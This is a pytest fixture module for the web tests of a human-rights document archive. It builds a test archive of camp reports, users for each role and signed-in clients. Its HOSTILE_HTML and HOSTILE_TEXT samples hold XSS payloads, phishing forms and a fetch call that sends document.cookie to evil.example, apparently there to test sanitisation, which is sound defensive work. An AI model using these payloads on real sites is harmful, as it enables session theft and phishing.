"""Shared pieces for the web tests: a small archive with users of every role, and
clients signed in as each. (Imported by the other test_web_* modules.)"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

import sillok
from sillok import api
from sillok.accounts import ROLES, add_user, set_visibility
from sillok.store.archive import Archive
from sillok.web import create_app

PASSWORD = "correct horse battery staple"
DEMO = ("seoul-ledger-yodok-satellite.html", "neasia-daily-yodok-syndicated.html",
        "ko-ngo-report-hwasong-camp16.txt", "email-witness-a17-interview-notes.eml")

HOSTILE_HTML = b"""<!doctype html><html><head><title>Camp 15 report <script>alert('title')</script>
</title><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<script src="https://evil.example/x.js"></script>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
<body onload="alert('body')"><h1>Yodok report</h1>
<p>Former prisoners of Camp 15 near Yodok described torture and forced labour in 2019.</p>
<p>Amnesty International estimated that about 50,000 people were held at Yodok in 2011.</p>
<img src="https://evil.example/pixel.png" onerror="alert('img')">
<img src=x onerror="fetch('https://evil.example/onerror')">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/phish" method="post"><input name="password">
<button>Go</button></form><a href="javascript:alert('link')">click</a>
<svg onload="alert('svg')"><script>alert(1)</script></svg>
<style>body { background: url(https://evil.example/bg.png) }</style>
<p>Witnesses said guards at Yodok beat prisoners &lt;script&gt;alert('escaped')&lt;/script&gt;.</p>
</body></html>"""

HOSTILE_TEXT = (b"Notes on Camp 16 (Hwasong).\n<script>alert('text')</script>\n"
                b"<img src=\"https://evil.example/t.png\" onerror=\"alert('t')\">\n"
                b"<form action=\"https://evil.example/f\"><input name=p></form>\n"
                b"Prisoners at Hwasong were tortured and executed.\n")


def build_archive(root: Path) -> Archive:
    """A small archive: four demo documents and two hostile ones, extracted."""
    corpus = Path(str(resources.files("sillok.demo") / "corpus"))
    incoming = root / "incoming"
    incoming.mkdir(parents=True)
    for name in DEMO:
        shutil.copy(corpus / name, incoming / name)
    (incoming / "hostile-report.html").write_bytes(HOSTILE_HTML)
    (incoming / "hostile-notes.txt").write_bytes(HOSTILE_TEXT)
    archive = sillok.init_archive(root / "archive")
    sillok.ingest_path(incoming, archive=archive)
    api.extract(archive=archive)
    with archive.writer() as conn:
        for role in ROLES:
            add_user(conn, role, PASSWORD, role)
    return archive


def doc_id(archive: Archive, name: str) -> str:
    for doc in sillok.list_documents(archive):
        if doc["original_name"] == name:
            return str(doc["id"])
    raise AssertionError(f"{name} is not in the archive")


def make_public(archive: Archive, *names: str) -> None:
    with archive.writer() as conn:
        for name in names:
            set_visibility(conn, doc_id(archive, name), "public", by="test")


def sign_in(client: TestClient, role: str) -> str:
    """Sign ``client`` in as the user named after ``role``; returns the CSRF token."""
    response = client.post("/api/login", json={"username": role, "password": PASSWORD})
    assert response.status_code == 200, response.text
    token: str = response.json()["csrf_token"]
    client.headers["X-CSRF-Token"] = token
    return token


@pytest.fixture(scope="module")
def web_archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    archive = build_archive(tmp_path_factory.mktemp("web"))
    make_public(archive, "seoul-ledger-yodok-satellite.html", "hostile-report.html",
                "hostile-notes.txt")
    yield archive
    archive.engine.dispose()


@pytest.fixture(scope="module")
def app(web_archive: Archive) -> Any:
    return create_app(web_archive)


@pytest.fixture
def client_as(app: Any) -> Iterator[Any]:
    """``client_as(role)``: a fresh client signed in as that role (None: anonymous)."""
    made: list[TestClient] = []

    def make(role: str | None) -> TestClient:
        client = TestClient(app, base_url="http://127.0.0.1", follow_redirects=False)
        made.append(client)
        if role:
            sign_in(client, role)
        return client

    yield make
    for client in made:
        client.close()
